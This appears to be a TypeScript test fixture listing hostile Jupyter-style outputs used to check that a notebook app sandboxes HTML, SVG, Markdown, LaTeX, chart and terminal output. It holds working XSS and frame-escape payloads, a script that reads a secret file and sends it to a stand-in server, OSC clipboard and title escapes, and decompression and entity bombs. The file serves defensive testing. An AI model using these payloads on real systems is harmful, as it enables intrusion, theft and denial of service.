/** Outputs that mean harm: each a piece of Python that a kernel runs, with the address of a server that nobody may ask. */

export interface HostileOutput {
  readonly name: string;
  readonly code: string;
  /** What the block says at last, where it has something to say. */
  readonly says?: RegExp;
  /** Where its HTML has to be drawn: by the window's page, or by a frame. */
  readonly drawn?: "page" | "frame";
}

/** Python that displays a mime bundle. */
function show(
  bundle: Readonly<Record<string, unknown>>,
  metadata: Readonly<Record<string, unknown>> = {},
): string {
  const literal = (value: unknown) => `json.loads(${JSON.stringify(JSON.stringify(value))})`;
  return `display(${literal(bundle)}, metadata=${literal(metadata)}, raw=True)`;
}

const html = (name: string, body: string, says?: RegExp): HostileOutput => ({
  name,
  code: show({ "text/html": body }),
  ...(says && { says }),
});
/** HTML that tries to pass for text with styles, and belongs in a frame. */
const framed = (name: string, body: string): HostileOutput => ({ ...html(name, body), drawn: "frame" });
/** HTML that is drawn in the window's page, and is to do nothing there. */
const inPage = (name: string, body: string): HostileOutput => ({ ...html(name, body), drawn: "page" });
const script = (name: string, code: string, says?: RegExp) =>
  html(name, `<p>${name}</p><script>${code}</script>`, says);
const bundle = (name: string, data: Readonly<Record<string, unknown>>, says?: RegExp): HostileOutput => ({
  name,
  code: show(data),
  ...(says && { says }),
});
const python = (name: string, code: string, says?: RegExp): HostileOutput => ({
  name,
  code,
  ...(says && { says }),
});

/** Imported once, before all others. */
export const PRELUDE = "import json, zlib, base64, struct; from IPython.display import display";

const PNG = `def png(w, h, cut=None):
    chunk = lambda t, d: struct.pack(">I", len(d)) + t + d + struct.pack(">I", zlib.crc32(t + d))
    body = zlib.compress(bytes((w + 7) // 8 + 1) * h, 9)
    data = b"\\x89PNG\\r\\n\\x1a\\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 1, 0, 0, 0, 0)) + chunk(b"IDAT", body) + chunk(b"IEND", b"")
    return base64.b64encode(data[:cut]).decode()
`;

/**
 * @param server "http://127.0.0.1:…", which counts whoever comes
 * @param udp port of a UDP socket that counts packets
 * @param secret path of a file that nobody may read
 */
export function hostileOutputs(server: string, udp: number, secret: string): HostileOutput[] {
  const ws = server.replace("http", "ws");
  return [
    script(
      "changes the window's page",
      `for (const w of [parent, top]) { try { w.document.body.innerHTML = "" } catch {} try { w.escaped = 1 } catch {} }`,
    ),
    script(
      "uses the window's bridge",
      `try { top.tandem.request("window.reload") } catch {} try { window.tandem.request("window.reload") } catch {} try { require("fs") } catch {}`,
    ),
    html(
      "onerror",
      `<img src="x:" onerror="try { top.document.title = 'escaped' } catch {}; top.location = '${server}/onerror'">`,
    ),
    html(
      "javascript: link",
      `<a id="a" href="javascript:top.location='${server}/js'">x</a><script>a.click()</script>`,
    ),
    script(
      "top.location",
      `try { top.location = "${server}/top" } catch {} try { top.location.replace("${server}/top2") } catch {}`,
    ),
    script("its own location", `location = "${server}/own"`),
    html("meta refresh", `<meta http-equiv="refresh" content="0;url=${server}/refresh">`),
    html(
      "base",
      `<base href="${server}/"><img src="based.png"><script src="based.js"></script><a id="b" href="b">b</a><script>b.click()</script>`,
    ),
    html(
      "form post",
      `<form id="f" method="post" action="${server}/form"><input name="a" value="b"></form><script>f.submit()</script>`,
    ),
    html(
      "form to the top",
      `<form id="f" target="_top" action="${server}/form-top"></form><script>f.submit()</script>`,
    ),
    script("popup", `for (let i = 0; i < 20; i++) open("${server}/popup")`),
    html("target=_blank", `<a id="a" target="_blank" href="${server}/blank">x</a><script>a.click()</script>`),
    html(
      "target=_top",
      `<a id="a" target="_top" href="${server}/toplink">x</a><script>a.dispatchEvent(new MouseEvent("click"))</script>`,
    ),
    html(
      "download",
      `<a id="a" download="evil.sh" href="data:text/plain,rm">x</a><script>a.click()</script>`,
    ),
    html(
      "covers the window",
      `<style>* { position: fixed; inset: -5000px; width: 20000px; height: 20000px; z-index: 2147483647; background: red !important }</style><div>covered</div>`,
    ),
    html(
      "styles from the network",
      `<style>@import "${server}/import.css"; @font-face { font-family: x; src: url(${server}/font.woff) } p { font-family: x; background: url(${server}/bg.png) }</style><link rel="stylesheet" href="${server}/link.css"><p>x</p>`,
    ),
    html(
      "media from the network",
      `<img src="${server}/i.png" srcset="${server}/i2.png 2x"><video autoplay poster="${server}/p.png" src="${server}/v.mp4"></video><audio autoplay src="${server}/a.mp3"></audio><svg><image href="${server}/svg.png"/></svg>`,
    ),
    html(
      "scripts from the network",
      `<script src="${server}/s.js"></script><script type="module">import("${server}/m.js")</script><script>new Worker("${server}/w.js")</script>`,
    ),
    script(
      "fetch",
      `fetch("${server}/fetch"); navigator.sendBeacon("${server}/beacon", "x"); const x = new XMLHttpRequest(); x.open("POST", "${server}/xhr"); x.send("x"); new EventSource("${server}/events")`,
    ),
    script("WebSocket", `new WebSocket("${ws}/socket")`),
    script(
      "WebRTC",
      `const f = document.createElement("iframe"); document.body.append(f); for (const w of [window, f.contentWindow]) try { const C = w.RTCPeerConnection; const c = new C({ iceServers: [{ urls: "stun:127.0.0.1:${udp}" }] }); c.createDataChannel("x"); c.createOffer().then((o) => c.setLocalDescription(o)) } catch {}`,
    ),
    html(
      "hints",
      `${["dns-prefetch", "preconnect", "prefetch", "preload", "modulepreload", "prerender", "icon"].map((rel) => `<link rel="${rel}" as="script" href="${server}/${rel}">`).join("")}<p>hints</p>`,
    ),
    script(
      "frames without end",
      `setInterval(() => { for (let i = 0; i < 5; i++) { const f = document.createElement("iframe"); f.srcdoc = "<p>x"; document.body.append(f) } }, 10)`,
      /made frames without end\. It was stopped\./,
    ),
    html(
      "frames in it",
      `<iframe src="${server}/frame"></iframe><iframe src="tandem://app/index.html"></iframe><iframe src="file://${secret}"></iframe><iframe srcdoc="<script>fetch('${server}/srcdoc'); new Image().src='${server}/srcdoc.png'; try { top.location='${server}/srcdoc-top' } catch {}</script>"></iframe>`,
    ),
    html(
      "pages of its own that ask the network",
      `<script>const asks = "<script>fetch('${server}/own-page').catch(() => {}); const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${udp}' }] }); c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o)); new WebTransport('${server}')<" + "/script>"; const frame = () => document.body.appendChild(document.createElement("iframe")); frame().src = "data:text/html," + encodeURIComponent(asks); frame().src = URL.createObjectURL(new Blob([asks], { type: "text/html" })); frame().srcdoc = asks</script>`,
    ),
    script(
      "goes to a page of its own",
      `location = "data:text/html," + encodeURIComponent("<script>fetch('${server}/data-page'); new Image().src = '${server}/data-page.png'; const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${udp}' }] }); c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o)); try { top.location = '${server}/data-top' } catch {}<" + "/script>")`,
    ),
    script(
      "a history without end",
      `setInterval(() => { for (let i = 0; i < 300; i++) { try { history.pushState({}, "", "#" + i) } catch {} try { history.back() } catch {} location.hash = i } }, 1)`,
    ),
    html(
      "objects",
      `<object data="${server}/object"></object><embed src="${server}/embed"><object data="file://${secret}"></object><embed type="application/pdf" src="data:application/pdf;base64,JVBERi0=">`,
    ),
    script(
      "workers",
      `navigator.serviceWorker?.register("${server}/sw.js").catch(() => {}); try { new SharedWorker("${server}/shared.js") } catch {} new Worker(URL.createObjectURL(new Blob(["fetch('${server}/worker'); importScripts('${server}/worker.js')"])))`,
    ),
    script(
      "reads a file",
      `fetch("file://${secret}").then((r) => r.text()).then((t) => fetch("${server}/?" + t)); const i = new Image(); i.src = "file://${secret}"; i.onload = () => fetch("${server}/file")`,
    ),
    script(
      "reads the app",
      `fetch("tandem://app/index.html").then((r) => r.text()).then((t) => parent.postMessage({ kind: "leave", t }, "*")); import("tandem://app/index.js")`,
    ),
    script(
      "dialogs without end",
      `for (let i = 0; i < 1000; i++) { alert(i); confirm(i); prompt(i); print() }`,
    ),
    script(
      "clipboard",
      `navigator.clipboard.writeText("stolen").catch(() => {}); navigator.clipboard.readText().catch(() => {}); const t = document.createElement("textarea"); t.value = "stolen"; document.body.append(t); t.select(); document.execCommand("copy")`,
    ),
    html(
      "takes the keyboard",
      `<input autofocus id="i"><script>setInterval(() => { window.focus(); i.focus() }, 20)</script>`,
    ),
    script(
      "pointer lock and full screen",
      `document.body.requestPointerLock?.(); document.documentElement.requestFullscreen?.().catch(() => {}); navigator.wakeLock?.request("screen").catch(() => {}); Notification.requestPermission?.().catch?.(() => {}); navigator.geolocation?.getCurrentPosition(() => {}, () => {}); navigator.mediaDevices?.getUserMedia({ audio: true, video: true }).catch(() => {})`,
    ),
    script(
      "stores",
      `try { localStorage.x = 1 } catch {} try { document.cookie = "x=1" } catch {} try { indexedDB.open("x") } catch {}`,
    ),
    script(
      "messages without end",
      `setInterval(() => { for (let i = 0; i < 500; i++) parent.postMessage({ kind: "link", url: "${server}" }, "*") }, 1)`,
      /too many messages/,
    ),
    script(
      "speaks for the frame",
      `const send = MessagePort.prototype.postMessage; MessagePort.prototype.postMessage = function (m) { send.call(this, { kind: "height", height: 1e300 }); send.call(this, { kind: "link", url: "javascript:alert(1)" }); send.call(this, { kind: "eval", code: "1" }); send.call(this, m) }`,
    ),
    script(
      "speaks for the user",
      `const send = MessagePort.prototype.postMessage; MessagePort.prototype.postMessage = function (m) { for (const kind of ["entered", "leave", "menu"]) send.call(this, { kind }); send.call(this, m) }`,
    ),
    html(
      "huge",
      `<div style="height: 90000000px; width: 90000000px; background: linear-gradient(red, blue)">x</div>`,
    ),
    script(
      "grows for ever",
      `const d = document.createElement("div"); document.body.append(d); let h = 10; setInterval(() => { h = h * 2 % 1e9; d.style.height = h + "px" }, 5)`,
    ),
    python("deep nesting", `display({"text/html": "<div>" * 50000 + "deep"}, raw=True)`),
    python("many elements", `display({"text/html": "<b>x</b> " * 100000}, raw=True)`),
    bundle("JavaScript", {
      "application/javascript": `element.textContent = "ran"; try { top.escaped = 1 } catch {} fetch("${server}/javascript")`,
    }),

    // What the window's page may draw itself is text with styles; these try to pass for that.
    framed("page: an event", `<b onmouseover="top.escaped=1" onclick="top.escaped=1">x</b>`),
    framed("page: an event in odd writing", `<b/oNpointerenter\n=\ntop.escaped=1 style="color:red">x</b>`),
    framed("page: a picture that fails", `<p>x<img src=x onerror=top.escaped=1></p>`),
    framed("page: a picture from elsewhere", `<p>x<img src="${server}/page.png"></p>`),
    framed("page: an old background", `<table background="${server}/background.png"><tr><td>x</table>`),
    framed("page: a style with an address", `<b style="background:url(${server}/style.png)">x</b>`),
    framed("page: an address in escapes", `<b style="background:\\75 rl(${server}/escaped.png)">x</b>`),
    framed("page: an address by a set", `<b style="background:image-set('${server}/set.png' 1x)">x</b>`),
    framed("page: an address in a list", `<ul style="list-style-image:url(${server}/list.png)"><li>x</ul>`),
    framed("page: an address in a border", `<b style="border-image:url(${server}/border.png) 1">x</b>`),
    framed("page: an address in content", `<b style="content:url(${server}/content.png)">x</b>`),
    framed("page: a cursor", `<b style="cursor:url(${server}/cursor.png),auto">x</b>`),
    framed("page: a property of its own", `<b style="--x:url(${server}/own.png);background:var(--x)">x</b>`),
    framed("page: a filter", `<b style="filter:url(${server}/filter.svg#f)">x</b>`),
    framed(
      "page: over the window",
      `<b style="position:fixed;inset:0;background:red;z-index:99999">covered</b>`,
    ),
    framed("page: moved away", `<b style="transform:translate(-500px,-500px) scale(90)">covered</b>`),
    framed("page: a margin that moves it up", `<b style="display:block;margin-top:-400px">covered</b>`),
    framed("page: moves for ever", `<b style="animation:x 1ms infinite;transition:all 9s">x</b>`),
    framed("page: a style sheet", `<style>.shell { display: none !important }</style><p>x</p>`),
    framed(
      "page: a style sheet behind that of a table",
      `<style scoped>.dataframe tbody tr th:only-of-type{vertical-align:middle;}.dataframe tbody tr th{vertical-align:top;}.dataframe thead th{text-align:right;}</style><style>*{display:none}</style><p>x</p>`,
    ),
    framed("page: a script between signs", `<p>x</p><!--><script>top.escaped=1</script>-->`),
    framed(
      "page: a script in what reads otherwise twice",
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=top.escaped=1&gt;">`,
    ),
    framed(
      "page: text that is none",
      `<noscript><p title="</noscript><img src=x onerror=top.escaped=1>"></noscript>x`,
    ),
    framed("page: a template", `<template><img src=x onerror=top.escaped=1></template><p>x</p>`),
    framed(
      "page: a template with a root",
      `<div><template shadowrootmode="open"><slot></slot></template>x</div>`,
    ),
    framed("page: a link that runs", `<a href="javascript:top.escaped=1">x</a>`),
    framed("page: a link that runs, in odd writing", `<a href="java&#10;script&colon;top.escaped=1">x</a>`),
    framed(
      "page: a link to a page of its own",
      `<a href="data:text/html,<script>top.escaped=1</script>">x</a>`,
    ),
    framed("page: a link to the app", `<a href="tandem://app/index.html">x</a>`),
    framed("page: another's file server", `<a href="//evil.example/share/x">x</a>`),
    framed("page: takes the keyboard", `<p contenteditable autofocus tabindex="1">x</p>`),
    framed("page: pops up", `<div popover="manual" id="p">x</div>`),
    framed("page: attributes of the page", `<body onload="top.escaped=1" bgcolor="red"><p>x</p>`),
    framed("page: refreshes", `<meta http-equiv="refresh" content="0;url=${server}/page-refresh"><p>x</p>`),
    framed("page: where links begin", `<base href="${server}/"><a href="x">x</a>`),
    framed("page: tables within tables", `${"<table><tr><td>".repeat(30)}x`),
    {
      ...python(
        "page: a cell of a million",
        `display({"text/html": "<table><tr>" + '<td colspan="1000" rowspan="60000">x' * 500 + "</table>"}, raw=True)`,
      ),
      drawn: "frame",
    },
    framed("page: large as the sky", `<p style="width:99999999px;height:1e8px;font-size:1e6px">x</p>`),
    inPage(
      "page: looks like ours",
      `<p class="dialog popup-menu notice shell" id="window" role="alertdialog" aria-label="Format?" name="body">x</p>`,
    ),
    inPage(
      "page: a link like ours",
      `<p><a class="text-link" data-link='{"kind":"url","url":"${server}/data-link"}' href="https://example.org/" target="_top">x</a></p>`,
    ),
    inPage("page: letters that grow", `<p>Z${"\u0300\u0301\u0489".repeat(300)}</p>`),
    inPage("page: turned around", `<p dir="rtl">\u202e\u2066exe.txt\u2069 x</p>`),
    python("page: very deep", `display({"text/html": "<div>" * 2000 + "deep"}, raw=True)`),
    python("page: very long", `display({"text/html": "<b style='color:red'>x</b>" * 2900}, raw=True)`),

    bundle("SVG with scripts", {
      "image/svg+xml": `<svg xmlns="http://www.w3.org/2000/svg" width="90" height="20" onload="top.escaped=1"><script>top.escaped = 1; fetch("${server}/svg")</script><image href="${server}/svg.png" width="9" height="9"/><text y="15">svg</text></svg>`,
    }),
    bundle("SVG with foreignObject", {
      "image/svg+xml": `<svg xmlns="http://www.w3.org/2000/svg" width="90" height="20"><foreignObject width="90" height="20"><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="${server}/foreign"></iframe><img src="${server}/foreign.png" onerror="top.escaped=1"/></body></foreignObject></svg>`,
    }),
    python(
      // A million elements; a hundred million end the frame's process, which Playwright takes for the page's end.
      "SVG that repeats itself",
      `display({"image/svg+xml": '<svg xmlns="http://www.w3.org/2000/svg" width="50" height="50"><g id="a0"><rect width="9" height="9"/></g>' + "".join(f'<g id="a{i}">' + f'<use href="#a{i-1}"/>' * 10 + "</g>" for i in range(1, 7)) + "</svg>"}, raw=True)`,
    ),
    python(
      "SVG of entities",
      `display({"image/svg+xml": '<!DOCTYPE svg [<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{i} "' + f"&a{i-1};" * 10 + '">' for i in range(1, 10)) + ']><svg xmlns="http://www.w3.org/2000/svg" width="50" height="50"><text>&a9;</text></svg>'}, raw=True)`,
    ),
    bundle("no SVG at all", { "image/svg+xml": `<html><script>top.escaped = 1</script></html>` }),
    python(
      "PNG bomb",
      `${PNG}\ndisplay({"image/png": png(20000, 20000)}, raw=True)`,
      /20,000 × 20,000 pixels is too large/,
    ),
    python("truncated PNG", `${PNG}\ndisplay({"image/png": png(300, 200, 60)}, raw=True)`),
    bundle("broken base64", { "image/png": "iVBORw0KG?? not base64 !!" }, /data are broken/),
    bundle(
      "HTML that says it is a PNG",
      { "image/png": "PHNjcmlwdD50b3AuZXNjYXBlZCA9IDE8L3NjcmlwdD4=" },
      /data are broken/,
    ),
    bundle(
      "GIF of gigapixels",
      { "image/gif": "R0lGODlh//////AAAAAAAAAAACwAAAAA/////wAAAgIMCgA7" },
      /too large/,
    ),
    python(
      "sizes that are none",
      show(
        {
          "image/png":
            "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
          "image/svg+xml": "<svg width='1e300' height='1e300'/>",
        },
        { "image/png": { width: 1e300, height: -5 }, width: 1e300, height: 1e300 },
      ),
    ),

    bundle("Markdown with HTML", {
      "text/markdown": `<script>top.escaped = 1</script> <img src=x onerror="top.escaped=1"> <iframe src="${server}/md"></iframe> <style>* { display: none }</style>\n\n[x](javascript:top.escaped=1) [y](data:text/html,<script>1</script>) [z](file://${secret}) ![i](${server}/md.png) ![j](tandem://app/index.html)\n\n<form action="${server}"><button>x</button></form>`,
    }),
    bundle("Markdown names", { "text/markdown": `# location\n\n<a id="tandem" name="body">x</a> [a](#)` }),
    python(
      "Markdown without end",
      `display({"text/markdown": "*a **b " * 10000 + "\\n\\n" + ">" * 20000 + " x\\n\\n" + "[" * 20000}, raw=True)`,
    ),
    bundle("LaTeX macros that loop", { "text/latex": String.raw`$\def\a{\a\a}\a$` }, /LaTeX cannot be drawn/),
    bundle(
      "LaTeX that doubles",
      {
        "text/latex": String.raw`$\def\a{xxxxxxxxxx}\def\b{\a\a\a\a\a\a\a\a\a\a}\def\c{\b\b\b\b\b\b\b\b\b\b}\def\d{\c\c\c\c\c\c\c\c\c\c}\def\e{\d\d\d\d\d\d\d\d\d\d}\e\e\e\e\e$`,
      },
      /LaTeX cannot be drawn/,
    ),
    bundle("LaTeX links", {
      "text/latex": String.raw`$\href{javascript:top.escaped=1}{x} \htmlId{window}{y} \htmlStyle{position:fixed;inset:0}{z} \includegraphics{${server}/tex.png} \rule{99999em}{99999em} \kern-9999em covered$`,
    }),
    python(
      "LaTeX nested deep",
      `display({"text/latex": "$" + "{" * 20000 + "x" + "}" * 20000 + "$"}, raw=True)`,
    ),
    python("JSON nested deep", `display({"application/json": json.loads('[' * 900 + ']' * 900)}, raw=True)`),
    python(
      "JSON of many keys",
      `display({"application/json": {f"<img src=x onerror=top.escaped=1>{i}": {"__proto__": {"escaped": 1}} for i in range(100000)}}, raw=True)`,
    ),
    python(
      "a type that is HTML",
      `display({'<img src=x onerror="top.escaped=1">': "x", "x" * 5000: "y"}, raw=True)`,
      /cannot draw/,
    ),
    bundle("values that are no text", { "text/html": 7, "image/png": null, "text/markdown": { a: 1 } }),
    bundle(
      "sound and video that are none",
      { "video/mp4": "AAAA", "text/plain": "video" },
      /cannot be played/,
    ),

    bundle(
      "a Vega-Lite chart of data elsewhere",
      {
        "application/vnd.vegalite.v5+json": {
          data: { url: `${server}/data.csv` },
          mark: { type: "image", url: `${server}/mark.png`, href: "javascript:top.escaped=1" },
          encoding: { x: { field: "a" } },
        },
      },
      /kept from loading/,
    ),
    bundle("a Vega chart that runs code", {
      "application/vnd.vega.v5+json": {
        signals: [
          { name: "s", init: "top.escaped=1" },
          { name: "u", update: "constructor.constructor('top.escaped=1')()" },
        ],
        marks: [
          {
            type: "text",
            encode: {
              enter: {
                href: { value: "javascript:top.escaped=1" },
                text: { value: "<img src=x onerror=top.escaped=1>" },
              },
            },
          },
        ],
        usermeta: { embedOptions: { actions: true, loader: { target: "_top" }, editorUrl: server } },
      },
    }),
    bundle("a Plotly figure with pages in it", {
      "application/vnd.plotly.v1+json": {
        data: [
          {
            type: "scatter",
            y: [1],
            text: ["<a href='javascript:top.escaped=1'>x</a>"],
            hovertemplate: "<script>top.escaped=1</script>",
          },
        ],
        layout: {
          title: {
            text: "<img src=x onerror=top.escaped=1><a href='javascript:top.escaped=1' target=_top>t</a>",
          },
          images: [{ source: `${server}/picture.png`, x: 0, y: 1, sizex: 1, sizey: 1 }],
        },
        config: { plotlyServerURL: server, showLink: true, showSendToCloud: true },
      },
    }),
    bundle(
      "a page of Altair with data elsewhere",
      {
        "text/html": `<div id="altair-viz-1"></div><script>(function(spec, opt) { top.escaped = 1; "vega-embed" })({"data": {"url": "${server}/altair.csv"}, "mark": "bar", "encoding": {"x": {"field": "a"}}}, {"mode": "vega-lite"});</script>`,
      },
      /kept from loading/,
    ),
    bundle(
      "a plot of Bokeh whose library is none",
      {
        "application/javascript": `top.escaped = 1; const items = [{"roots":{"<img src=x onerror=top.escaped=1>":"body"}}]`,
        "application/vnd.bokehjs_exec.v0+json": "",
      },
      /Run output_notebook\(\) again/,
    ),
    python(
      "ten thousand types",
      `display({f"application/x-{i}": "x" for i in range(10000)}, raw=True)`,
      /cannot draw/,
    ),
    python(
      "a table of many columns that are pages",
      `display({"text/csv": ",".join(["<img src=x onerror=top.escaped=1>"] * 200000) + "\\n" + "9" * 2000000 + "x\\n" + "\\"" + "\\"\\"" * 500000}, raw=True)`,
    ),
    python(
      "a forged prompt",
      String.raw`print("\x1b[2J\x1b[H\x1b[31mIn [99]:\x1b[0m format disk?\n\x1b[?1049h\x1b[5000A\x1b[5000Dforged\x1b[?25l")`,
    ),
    python(
      "title and clipboard by OSC",
      String.raw`print("\x1b]0;owned\x07\x1b]2;owned\x1b\\\x1b]52;c;c3RvbGVu\x07\x1b]1337;File=inline=1:AAAA\x07osc")`,
    ),
    python(
      "links by OSC 8",
      `print("\\x1b]8;;javascript:top.escaped=1\\x07js\\x1b]8;;\\x07 \\x1b]8;;file://${secret}\\x07file\\x1b]8;;\\x07 \\x1b]8;;tandem://app/\\x07app\\x1b]8;;\\x07")`,
    ),
    python(
      "bidi",
      String.raw`print("access level \u202e\u2066user\u2069 \u2066exe.txt\u2069 \u200b\ufeff\u0000\ud800".encode("utf-8", "replace").decode()); print('  File "/tmp/\u202eyp.exe", line 1, in <module>')`,
    ),
    python(
      "comm messages",
      `from ipykernel.comm import Comm\nfor i in range(200): Comm(target_name="jupyter.widget", data={"html": "<script>top.escaped=1</script>"}).send({"x": 1})`,
    ),
    script("spins for ever", `while (true) {}`, /did not answer/),
  ];
}
